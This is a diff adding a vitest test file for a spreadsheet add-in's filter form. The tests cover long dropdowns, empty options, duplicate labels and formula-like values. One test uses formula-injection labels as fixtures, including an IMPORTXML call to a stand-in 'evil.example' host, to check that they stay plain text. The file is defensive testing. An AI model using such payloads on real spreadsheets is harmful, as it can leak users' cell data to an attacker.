@@ -1,0 +1,134 @@
+import { describe, expect, it } from "vitest";
+import { CHECK, FILTER, FilterForm, FIRST, LIST, VALUE } from "../addin/filter-form";
+import { openAddin, type OpenAddin } from "../addin/open-addin";
+
+type Options = readonly { readonly value: string | number; readonly label: string }[];
+interface Served {
+  readonly filter: string;
+  readonly options?: Options;
+  readonly value_shape?: string;
+}
+
+/** Serves these filters and no others; a filter whose options are none has an empty dropdown. */
+async function serving(filters: readonly Served[]): Promise<OpenAddin> {
+  const addin = await openAddin();
+  const all = filters.map(({ filter, options, value_shape = "list[string]" }) => ({
+    filter,
+    value_shape,
+    description: "What it is.",
+    how_to_get_values: "",
+    ...(options === undefined ? {} : { dropdown_type: filter }),
+  }));
+  addin.spoil = (reply, url) => {
+    if (url.includes("filters/list"))
+      return { ...reply, status: 200, body: JSON.stringify({ filters: all }) };
+    if (!url.includes("filters/options")) return reply;
+    const results = filters.map(({ filter, options = [] }) => ({ dropdown_type: filter, data: options }));
+    return { ...reply, status: 200, body: JSON.stringify({ results }) };
+  };
+  return addin;
+}
+
+/** Every formula of a sheet. */
+const formulasOf = ({ sheet }: FilterForm): string[] =>
+  sheet
+    .getFormulas(sheet.dataRange)
+    .flat()
+    .filter((formula) => formula !== "");
+
+describe("A filter form over an odd catalogue", () => {
+  it("offers 600 values, and nothing for a filter without any", async () => {
+    const options = Array.from({ length: 600 }, (_, index) => ({
+      value: `V${index}`,
+      label: `Value ${index}`,
+    }));
+    const addin = await serving([
+      { filter: "a.long_list", options },
+      { filter: "a.none", options: [] },
+      { filter: "b.typed" },
+      { filter: "b.odd", value_shape: "a shape of tomorrow" },
+    ]);
+    const form = await FilterForm.inserted(addin);
+
+    await form.type(FIRST, FILTER, "Long list");
+    await form.type(FIRST, VALUE, "Value 599");
+    await form.type(FIRST + 1, FILTER, "None");
+    await form.type(FIRST + 2, FILTER, "Typed");
+    await form.type(FIRST + 2, VALUE, "anything");
+
+    expect(form.offered(FIRST, FILTER)).toEqual(["Long list", "None", "Typed", "Odd"]);
+    expect(form.offered(FIRST, VALUE)).toEqual(options.map(({ label }) => label));
+    expect(form.offered(FIRST + 1, VALUE)).toEqual([]);
+    expect(form.offered(FIRST + 2, VALUE)).toEqual(["anything"]);
+    expect(form.shown(FIRST, CHECK)).toBe("ok: Value 599");
+    expect(form.shown(FIRST + 2, CHECK)).toBe("ok");
+  });
+
+  it("keeps what looks like a formula, a date or a number as the text that it is, offered or chosen", async () => {
+    const labels = [
+      "=1+1",
+      '=IMPORTXML("https://evil.example",A1)',
+      "+A1",
+      "-A1",
+      "@A1",
+      "1-10",
+      "007",
+      "'x",
+    ];
+    const addin = await serving([
+      { filter: "=cmd.=run", options: labels.map((label, index) => ({ value: `v${index}`, label })) },
+      { filter: "c.size", options: [{ value: 10, label: "=10" }], value_shape: "list[int]" },
+    ]);
+    const ours = formulasOf(await FilterForm.inserted(await openAddin()));
+    const form = await FilterForm.inserted(addin);
+    const name = String(form.offered(FIRST, FILTER)[0]);
+
+    await form.type(FIRST, FILTER, name);
+    const offered = form.offered(FIRST, VALUE);
+    for (const [index, label] of labels.slice(0, 7).entries()) {
+      await form.type(FIRST + index, FILTER, name);
+      await form.type(FIRST + index, VALUE, label);
+      expect(form.shown(FIRST + index, CHECK)).toBe(`ok: ${label}`);
+    }
+
+    expect(name).toBe("=run");
+    expect(offered).toEqual(labels);
+    expect(formulasOf(form)).toHaveLength(ours.length);
+    expect(form.shown(LIST, 1)).toMatch(/^Tick “Get the list”/);
+    expect(addin.credits).toBe(0);
+  });
+
+  it("tells apart values that share a name, and filters that do", async () => {
+    const options = [
+      { value: "A1", label: "Trade" },
+      { value: "A2", label: "Trade" },
+    ];
+    const addin = await serving([{ filter: "x.trade", options }, { filter: "y.trade" }, { filter: "  " }]);
+    const form = await FilterForm.inserted(addin);
+    const [first, second] = form.offered(FIRST, FILTER).map(String);
+
+    await form.type(FIRST, FILTER, first!);
+    await form.type(FIRST, VALUE, "Trade (A2)");
+    await form.type(FIRST + 1, FILTER, second!);
+    await form.type(FIRST + 1, VALUE, "x");
+    await form.type(FIRST + 2, FILTER, first!);
+    await form.type(FIRST + 2, VALUE, "Trade");
+
+    expect(new Set([first, second]).size).toBe(2);
+    expect(form.offered(FIRST, FILTER)).toHaveLength(2);
+    expect(form.offered(FIRST, VALUE)).toEqual(["Trade (A1)", "Trade (A2)"]);
+    expect([form.shown(FIRST, CHECK), form.shown(FIRST + 1, CHECK)]).toEqual(["ok: Trade", "ok"]);
+    expect(form.shown(FIRST + 2, CHECK)).toMatch(/^⚠ No such value: “Trade”/);
+  });
+
+  it("is made where no filter has values to choose from", async () => {
+    const addin = await serving([{ filter: "a.typed" }, { filter: "a.years", value_shape: "range of int" }]);
+    const form = await FilterForm.inserted(addin);
+
+    await form.type(FIRST, FILTER, "Years");
+    await form.type(FIRST, VALUE, "2015..");
+
+    expect(form.offered(FIRST, VALUE)).toEqual(["2015.."]);
+    expect(form.shown(FIRST, CHECK)).toBe("ok: from 2015");
+  });
+});
